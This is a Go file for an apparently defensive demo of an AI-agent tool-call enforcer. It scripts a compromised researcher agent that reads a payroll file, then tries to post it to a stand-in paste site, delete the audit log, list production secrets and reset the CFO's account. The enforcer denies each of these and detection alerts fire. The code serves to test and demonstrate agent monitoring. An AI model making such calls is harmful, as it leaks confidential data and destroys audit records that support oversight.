package demo

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"os"
	"path/filepath"
	"time"

	"github.com/rampart-io/rampart/enforcer/credential"
	"github.com/rampart-io/rampart/enforcer/destination"
	"github.com/rampart-io/rampart/loadtest/workload"
)

// incidentSession is where the demo's compromised researcher acts: the
// session the report reconstructs, so its timeline shows the alerts' story.
const incidentSession = "acme-sess-1"

// The compromised agent, as the report's investigation names it.
const (
	incidentTenant = "acme"
	incidentActor  = "agent:researcher"
)

// Incident is what a compromised researcher agent does in one acme session,
// after its ordinary calls: it reads a confidential report, tries to post it
// to the internet, then probes for tools it was never given. The boundary
// denies all but the read; the detections say what the denials meant.
func Incident() []workload.Call {
	researcher := workload.Caller{Tenant: "acme", Principal: "user:u1@acme.example", Session: incidentSession,
		Task: "task-" + incidentSession, Actors: []string{"agent:planner", "agent:researcher"}}
	call := func(tool string, args map[string]any, want int, rule string) workload.Call {
		return workload.Call{Caller: researcher, RPCMethod: "tools/call", Tool: tool, Args: args, Want: want, WantRule: rule}
	}
	return []workload.Call{
		call("read_file", map[string]any{"path": "/finance/payroll.csv"}, 200, "allow-read-tools"),
		call("http_post", map[string]any{"url": "https://paste.example/upload", "body": "payroll.csv"}, 403, "default-deny"),
		call("delete_records", map[string]any{"table": "audit_log"}, 403, "default-deny"),
		call("list_secrets", map[string]any{"vault": "prod"}, 403, "default-deny"),
		call("admin_reset", map[string]any{"user": "cfo"}, 403, "default-deny"),
	}
}

// CredentialIssuer and CredentialAudience name the task credentials the
// demo's enforcer mints for the file store: read_file calls reach it with
// a token minted for their task, never with the agent's own.
const (
	CredentialIssuer   = "http://127.0.0.1/rampart-demo"
	CredentialAudience = "file-store"
)

// credentials gives the enforcer a fresh signing key in dir.
func credentials(dir string) (credential.Config, error) {
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return credential.Config{}, err
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return credential.Config{}, err
	}
	path := filepath.Join(dir, "credential-key.pem")
	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
		return credential.Config{}, err
	}
	return credential.Config{Issuer: CredentialIssuer, KeyFile: path}, nil
}

// destinations tells the enforcer what the demo's tools touch, so that
// events carry the data class and destination the detections read.
func destinations() destination.Config {
	return destination.Config{Rules: []destination.Rule{
		{Match: destination.Match{Tool: "read_file"}, Destination: "internal", DataClass: "confidential",
			Credential: &credential.Spec{Audience: CredentialAudience, TTL: 5 * time.Minute}},
		{Match: destination.Match{Tool: "http_post"}, Destination: "internet", DataClass: "unclassified"},
	}}
}

// ExpectedAlerts are the shipped rules the incident must raise in acme.
var ExpectedAlerts = []string{"exfiltration-blocked", "probing-denied-tools"}
